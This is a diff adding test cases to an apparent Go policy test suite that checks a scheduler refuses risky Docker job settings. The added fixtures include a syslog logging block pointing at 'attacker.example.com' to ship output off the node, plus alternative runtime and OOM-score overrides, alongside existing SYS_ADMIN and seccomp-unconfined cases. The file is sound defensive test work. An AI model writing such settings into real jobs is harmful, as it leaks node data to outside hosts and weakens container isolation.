@@ -222,6 +222,14 @@ resources {
   }
 }`), refused: []string{"resources.device"}}),
 		Entry("an added capability", policyCase{hcl: dockerJob("", "", `cap_add = ["SYS_ADMIN"]`), refused: []string{"capability SYS_ADMIN"}}),
+		Entry("another container runtime", policyCase{hcl: dockerJob("", "", `runtime = "runc"`), refused: []string{"config.runtime"}}),
+		Entry("a docker logging driver shipping output off the node", policyCase{hcl: dockerJob("", "", `logging {
+  type = "syslog"
+  config {
+    syslog-address = "udp://attacker.example.com:514"
+  }
+}`), refused: []string{"config.logging"}}),
+		Entry("a task the OOM killer spares over its neighbours", policyCase{hcl: dockerJob("", "", "oom_score_adj = -1000"), refused: []string{"config.oom_score_adj"}}),
 		Entry("seccomp off", policyCase{hcl: dockerJob("", "", `security_opt = ["seccomp=unconfined"]`), refused: []string{"config.security_opt"}}),
 		Entry("a group host volume", policyCase{hcl: taskJob(`volume "data" {
   type   = "host"
